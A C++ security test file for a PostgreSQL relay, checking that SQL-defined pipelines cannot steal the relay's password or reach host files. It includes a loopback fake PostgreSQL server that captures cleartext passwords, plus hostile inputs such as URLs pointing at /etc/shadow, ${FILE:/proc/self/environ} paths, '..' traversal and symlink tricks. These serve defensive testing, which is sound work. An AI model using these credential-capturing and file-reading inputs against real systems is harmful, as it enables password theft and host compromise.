@@ -1,0 +1,304 @@
+// Whoever may define pipelines in SQL (set_relay_outbox / set_relay_inbox) is trusted with the
+// database, not with the relay's host. Tried as such an admin would: through the relay's config,
+// read the relay's environment and files, hand its PostgreSQL password to a server of one's own,
+// or write, cut and delete files on its host. The operator's TOML pipelines keep full power.
+#include <arpa/inet.h>
+#include <netinet/in.h>
+#include <poll.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include <atomic>
+#include <fstream>
+#include <mutex>
+#include <thread>
+
+#include "fixture.h"
+#include "http/http_post.h"
+
+using namespace relay::test;
+using json = nlohmann::json;
+using namespace std::chrono_literals;
+
+namespace {
+
+void write_file(const std::string& path, const std::string& text, mode_t mode = 0644) {
+  { std::ofstream(path) << text; }
+  ::chmod(path.c_str(), mode);
+}
+
+// A server of the attacker's: speaks the start of PostgreSQL's protocol on loopback, asks every
+// client for a cleartext password (AuthenticationCleartextPassword) and records what it is sent.
+class PasswordCatcher {
+ public:
+  PasswordCatcher() {
+    fd_ = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+    sockaddr_in a{};
+    a.sin_family = AF_INET;
+    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    ::bind(fd_, reinterpret_cast<sockaddr*>(&a), sizeof a);
+    socklen_t len = sizeof a;
+    ::getsockname(fd_, reinterpret_cast<sockaddr*>(&a), &len);
+    port_ = ntohs(a.sin_port);
+    ::listen(fd_, 16);
+    thread_ = std::thread([this] { serve(); });
+  }
+  ~PasswordCatcher() {
+    stop_ = true;
+    thread_.join();
+    ::close(fd_);
+  }
+  int port() const { return port_; }
+  int startups() const { return startups_; }
+  std::vector<std::string> passwords() {
+    std::lock_guard lock(mu_);
+    return passwords_;
+  }
+
+ private:
+  static bool read_n(int c, void* buf, size_t n) {
+    auto* p = static_cast<char*>(buf);
+    while (n > 0) {
+      pollfd pfd{c, POLLIN, 0};
+      if (::poll(&pfd, 1, 5000) <= 0) return false;
+      ssize_t r = ::read(c, p, n);
+      if (r <= 0) return false;
+      p += r;
+      n -= static_cast<size_t>(r);
+    }
+    return true;
+  }
+  static uint32_t be32(const unsigned char* b) { return (uint32_t(b[0]) << 24) | (b[1] << 16) | (b[2] << 8) | b[3]; }
+
+  void serve() {
+    while (!stop_) {
+      pollfd pfd{fd_, POLLIN, 0};
+      if (::poll(&pfd, 1, 100) <= 0) continue;
+      int c = ::accept4(fd_, nullptr, nullptr, SOCK_CLOEXEC);
+      if (c < 0) continue;
+      converse(c);
+      ::close(c);
+    }
+  }
+
+  void converse(int c) {
+    unsigned char head[8];
+    while (true) {  // SSL and GSS encryption requests are declined with 'N'
+      if (!read_n(c, head, 8)) return;
+      uint32_t len = be32(head), code = be32(head + 4);
+      if (code == 80877103 || code == 80877104) {
+        if (::write(c, "N", 1) != 1) return;
+        continue;
+      }
+      std::string rest(len - 8, '\0');
+      if (len < 8 || len > 10000 || !read_n(c, rest.data(), rest.size())) return;
+      break;
+    }
+    ++startups_;
+    const unsigned char ask[] = {'R', 0, 0, 0, 8, 0, 0, 0, 3};
+    if (::write(c, ask, sizeof ask) != sizeof ask) return;
+    unsigned char type;
+    unsigned char blen[4];
+    if (!read_n(c, &type, 1) || type != 'p' || !read_n(c, blen, 4)) return;
+    uint32_t len = be32(blen);
+    std::string body(len - 4, '\0');
+    if (len < 4 || len > 10000 || !read_n(c, body.data(), body.size())) return;
+    {
+      std::lock_guard lock(mu_);
+      passwords_.push_back(body.c_str());
+    }
+    const char err[] = "SFATAL\0C28P01\0Mpassword authentication failed\0";
+    std::string msg = "E";
+    uint32_t n = htonl(static_cast<uint32_t>(4 + sizeof err));  // sizeof err counts the final \0
+    msg.append(reinterpret_cast<const char*>(&n), 4);
+    msg.append(err, sizeof err);
+    (void)!::write(c, msg.data(), msg.size());
+  }
+
+  int fd_ = -1, port_ = 0;
+  std::atomic<bool> stop_{false};
+  std::atomic<int> startups_{0};
+  std::mutex mu_;
+  std::vector<std::string> passwords_;
+  std::thread thread_;
+};
+
+std::string toml_with(const TestDb& db, const std::string& name, const std::string& pipelines) {
+  std::string path = work_dir() + "/" + name + "-" + db.name() + ".toml";
+  std::ofstream(path) << "[global]\npostgres_url = \"" << db.relay_url() << "\"\nmetrics_bind = \"127.0.0.1:0\"\n\n" << pipelines;
+  return path;
+}
+
+TEST(HostAccess, APgInboxOfAPipelineDefinedInSqlNeverHandsTheRelaysPostgresPasswordToTheServerItNames) {
+  PasswordCatcher attacker;
+  TestDb db;
+  db.exec("CREATE TABLE t (id int PRIMARY KEY)");
+  db.exec("SELECT pgtrickle.enable_outbox('t')");
+  db.exec("INSERT INTO t VALUES (1)");
+  std::string url = "postgresql://victim@127.0.0.1:" + std::to_string(attacker.port()) + "/ledger";
+  set_outbox_pipeline(db, "steal", {{"stream_table", "t"}, {"sink_type", "pg-inbox"}, {"postgres_url", url}, {"inbox_name", "x"}});
+  // Files of the relay's host named in the URL, and its service file, are not for SQL pipelines.
+  set_outbox_pipeline(db, "cert", {{"stream_table", "t"}, {"sink_type", "pg-inbox"}, {"inbox_name", "x"},
+                                   {"postgres_url", url + "?sslcert=/etc/passwd&sslkey=/etc/shadow"}});
+  set_outbox_pipeline(db, "service", {{"stream_table", "t"}, {"sink_type", "pg-inbox"}, {"inbox_name", "x"},
+                                      {"postgres_url", "service=relay dbname=ledger"}});
+  std::string home = work_dir() + "/home-" + db.name();
+  ::mkdir(home.c_str(), 0700);
+  write_file(home + "/.pgpass", "*:*:*:*:pgpass-file-secret\n", 0600);
+  {  // The relay's own password in PGPASSWORD
+    RelayProcess relay(relay_args(db), {"PGPASSWORD=pgpassword-env-secret"});
+    ASSERT_TRUE(wait_until([&] { return attacker.startups() >= 1; }, 20s)) << "the relay never reached the server\n" << relay.err();
+    std::string error = wait_for_pipeline_error(relay, "steal");
+    EXPECT_NE(error.find("no password supplied"), std::string::npos) << error;
+    std::string cert = wait_for_pipeline_error(relay, "cert");
+    EXPECT_NE(cert.find("sslcert"), std::string::npos) << cert;
+    EXPECT_NE(cert.find("--sql-secrets-dir"), std::string::npos) << cert;
+    EXPECT_NE(wait_for_pipeline_error(relay, "service").find("service file"), std::string::npos);
+  }
+  {  // ... or in ~/.pgpass
+    int before = attacker.startups();
+    RelayProcess relay(relay_args(db), {"PGPASSWORD=", "PGPASSFILE=" + home + "/.pgpass", "HOME=" + home});
+    ASSERT_TRUE(wait_until([&] { return attacker.startups() > before; }, 20s)) << relay.err();
+    wait_for_pipeline_error(relay, "steal");
+  }
+  for (const auto& p : attacker.passwords()) {
+    EXPECT_EQ(p.find("pgpassword-env-secret"), std::string::npos) << "the relay's PGPASSWORD reached the attacker";
+    EXPECT_EQ(p.find("pgpass-file-secret"), std::string::npos) << "the relay's ~/.pgpass reached the attacker";
+  }
+
+  // The same pipeline in the operator's TOML file uses the relay's own libpq settings, as before.
+  for (const char* p : {"steal", "cert", "service"}) db.exec(std::string("SELECT pgtrickle.delete_relay('") + p + "')");
+  std::string toml = toml_with(db, "pg-inbox", "[[pipeline]]\nname = \"mine\"\nsource = { type = \"outbox\", stream_table = \"t\" }\n"
+                                              "sink = { type = \"pg-inbox\", postgres_url = \"" + url + "\", inbox_name = \"x\" }\n");
+  RelayProcess operator_relay({"--config", toml}, {"PGPASSWORD=pgpassword-env-secret"});
+  EXPECT_TRUE(wait_until([&] {
+    for (const auto& p : attacker.passwords())
+      if (p == "pgpassword-env-secret") return true;
+    return false;
+  }, 20s)) << operator_relay.err();
+}
+
+TEST(HostAccess, APipelineDefinedInSqlCannotPutAHostFileIntoErrorsOrAnInbox) {
+  TestDb db;
+  std::string host_file = work_dir() + "/host-only-" + db.name();
+  write_file(host_file, "host-file-secret-line", 0600);
+  db.exec("CREATE TABLE t (id int PRIMARY KEY)");
+  db.exec("SELECT pgtrickle.enable_outbox('t')");
+  db.exec("INSERT INTO t VALUES (1)");
+  // The environment through a file sink's path (its error used to quote the path it could not open).
+  set_outbox_pipeline(db, "environ", {{"stream_table", "t"}, {"sink_type", "file"}, {"path", "${FILE:/proc/self/environ}"}});
+  set_outbox_pipeline(db, "hostfile", {{"stream_table", "t"}, {"sink_type", "file"}, {"path", "/nonexistent/${FILE:" + host_file + "}"}});
+  // A host file as the event_type of every row an HTTP receiver lands.
+  int port = free_receiver_port();
+  set_inbox_pipeline(db, "receiver", {{"source_type", "http"}, {"listen", "127.0.0.1:" + std::to_string(port)}, {"path", "/in"},
+                                      {"bearer_token", "t0k"}, {"inbox_name", "hooks"}, {"event_type", "${FILE:" + host_file + "}"}});
+  std::string secrets = work_dir() + "/no-secrets-" + db.name();
+  ::mkdir(secrets.c_str(), 0700);
+  RelayProcess relay(relay_args(db), {"PGTRICKLE_TEST_MARK=environment-secret-value", "PGTRICKLE_RELAY_SQL_SECRETS_DIR=" + secrets});
+  for (const char* p : {"environ", "hostfile", "receiver"}) {
+    std::string error = wait_for_pipeline_error(relay, p);
+    EXPECT_FALSE(error.empty()) << p << "\n" << relay.err();
+    EXPECT_EQ(error.find("environment-secret-value"), std::string::npos) << error;
+    EXPECT_EQ(error.find("host-file-secret-line"), std::string::npos) << error;
+  }
+  EXPECT_NE(wait_for_pipeline_error(relay, "receiver").find("--sql-secrets-dir"), std::string::npos);
+  httplib::Client c("127.0.0.1", port);
+  c.set_connection_timeout(1);
+  auto r = c.Post("/in", {{"Authorization", "Bearer t0k"}}, "{\"a\":1}", "application/json");
+  EXPECT_FALSE(r && r->status < 300) << "the receiver was not to run";
+  if (db.value("SELECT to_regclass('pgtrickle.inbox_hooks') IS NOT NULL") == "t") {
+    EXPECT_EQ(db.number("SELECT count(*) FROM pgtrickle.inbox_hooks WHERE event_type LIKE '%secret%'"), 0);
+  }
+  EXPECT_EQ(relay.err().find("host-file-secret-line"), std::string::npos);
+  EXPECT_EQ(relay.err().find("environment-secret-value"), std::string::npos);
+}
+
+// File sinks of pipelines defined in SQL write only under --sql-file-dir: not elsewhere, not
+// through "..", not through a symlink; with no directory set, nowhere.
+TEST(HostAccess, AFileSinkDefinedInSqlWritesOnlyUnderTheOperatorsDirectory) {
+  TestDb db;
+  std::string files = work_dir() + "/sql-files-" + db.name();
+  ::mkdir(files.c_str(), 0755);
+  std::string victim = work_dir() + "/victim-" + db.name();
+  const std::string precious = "precious line\nand a last line with no newline";
+  write_file(victim, precious);
+  ::symlink(victim.c_str(), (files + "/link").c_str());
+  db.exec("CREATE TABLE t (id int PRIMARY KEY)");
+  db.exec("SELECT pgtrickle.enable_outbox('t')");
+  db.exec("INSERT INTO t VALUES (1)");
+  auto file_sink = [&](const std::string& name, const std::string& path) {
+    set_outbox_pipeline(db, name, {{"stream_table", "t"}, {"sink_type", "file"}, {"path", path}, {"rotate_bytes", 1}, {"max_files", 0}});
+  };
+  file_sink("outside", victim);
+  file_sink("dotdot", files + "/../victim-" + db.name());
+  file_sink("symlink", files + "/link");
+  file_sink("inside", files + "/out.jsonl");
+  {
+    RelayProcess relay(relay_args(db), {"PGTRICKLE_RELAY_SQL_FILE_DIR=" + files});
+    ASSERT_TRUE(wait_until([&] { return read_lines(files + "/out.jsonl").size() == 1; }, 15s)) << relay.err();
+    EXPECT_NE(wait_for_pipeline_error(relay, "outside").find("--sql-file-dir"), std::string::npos);
+    EXPECT_NE(wait_for_pipeline_error(relay, "dotdot").find("--sql-file-dir"), std::string::npos);
+    EXPECT_NE(wait_for_pipeline_error(relay, "symlink").find("symbolic link"), std::string::npos);
+  }
+  {
+    RelayProcess relay(relay_args(db), {"PGTRICKLE_RELAY_SQL_FILE_DIR="});
+    EXPECT_NE(wait_for_pipeline_error(relay, "outside").find("--sql-file-dir"), std::string::npos);
+  }
+  EXPECT_EQ(read_file(victim), precious) << "the file outside the directory is untouched";
+}
+
+// For every file sink, TOML too: a file the relay did not create is never cut (the torn-line
+// repair) nor renamed or deleted (rotation); its last line is ended with a newline and kept.
+TEST(HostAccess, AFileSinkNeverCutsRotatesOrDeletesAFileTheRelayDidNotCreate) {
+  TestDb db;
+  std::string files = work_dir() + "/own-" + db.name();
+  ::mkdir(files.c_str(), 0755);
+  const std::string precious = "user line one\nuser line without newline";
+  std::string appended = files + "/appended.log", rotated = files + "/rotated.log", toml_target = files + "/toml.log";
+  for (const auto& f : {appended, rotated, toml_target}) write_file(f, precious);
+  db.exec("CREATE TABLE t (id int PRIMARY KEY)");
+  db.exec("SELECT pgtrickle.enable_outbox('t')");
+  db.exec("INSERT INTO t VALUES (1), (2)");
+  set_outbox_pipeline(db, "append", {{"stream_table", "t"}, {"sink_type", "file"}, {"path", appended}});
+  set_outbox_pipeline(db, "rotate", {{"stream_table", "t"}, {"sink_type", "file"}, {"path", rotated}, {"rotate_bytes", 1}, {"max_files", 0}});
+  std::string toml = toml_with(db, "own", "[[pipeline]]\nname = \"toml-rotate\"\nsource = { type = \"outbox\", stream_table = \"t\" }\n"
+                                         "sink = { type = \"file\", path = \"" + toml_target + "\", rotate_bytes = 1, max_files = 0 }\n");
+  RelayProcess relay({"--config", toml, "--sql-file-dir", files});
+  ASSERT_TRUE(wait_until([&] { return read_lines(appended).size() == 4; }, 15s)) << relay.err() << read_file(appended);
+  std::string text = read_file(appended);
+  EXPECT_EQ(text.rfind(precious + "\n", 0), 0u) << "the user's bytes stay, their last line ended by a newline\n" << text;
+  EXPECT_NE(text.find("\"id\":2"), std::string::npos) << text;
+  for (const char* p : {"rotate", "toml-rotate"}) {
+    std::string error = wait_for_pipeline_error(relay, p);
+    EXPECT_NE(error.find("did not create it"), std::string::npos) << p << ": " << error;
+  }
+  EXPECT_EQ(read_file(rotated).rfind(precious, 0), 0u) << "not deleted nor replaced";
+  EXPECT_EQ(read_file(toml_target).rfind(precious, 0), 0u) << "not deleted nor replaced";
+}
+
+// A file the relay created is its own to repair and rotate: after a crash left half a line, it is
+// cut back; rotating with max_files = 0 replaces it.
+TEST(HostAccess, TheRelaysOwnFileIsRepairedAndRotatedAcrossRestarts) {
+  TestDb db;
+  std::string out = work_dir() + "/own-rotate-" + db.name() + ".jsonl";
+  db.exec("CREATE TABLE t (id int PRIMARY KEY)");
+  db.exec("SELECT pgtrickle.enable_outbox('t')");
+  db.exec("INSERT INTO t VALUES (1)");
+  set_outbox_pipeline(db, "own", {{"stream_table", "t"}, {"sink_type", "file"}, {"path", out}, {"rotate_bytes", 100000}, {"max_files", 0}});
+  {
+    RelayProcess relay(relay_args(db));
+    ASSERT_TRUE(wait_until([&] { return read_lines(out).size() == 1; }, 15s)) << relay.err();
+  }
+  { std::ofstream(out, std::ios::app) << "{\"torn\":tr"; }
+  set_outbox_pipeline(db, "own", {{"stream_table", "t"}, {"sink_type", "file"}, {"path", out}, {"rotate_bytes", 1}, {"max_files", 0}});
+  db.exec("INSERT INTO t VALUES (2)");
+  RelayProcess relay(relay_args(db));
+  ASSERT_TRUE(wait_until([&] {
+    auto lines = json_lines(out);
+    return lines.size() == 1 && lines[0]["payload"]["id"] == 2;
+  }, 15s)) << relay.err() << read_file(out);
+  EXPECT_EQ(read_file(out).find("torn"), std::string::npos);
+}
+
+}  // namespace
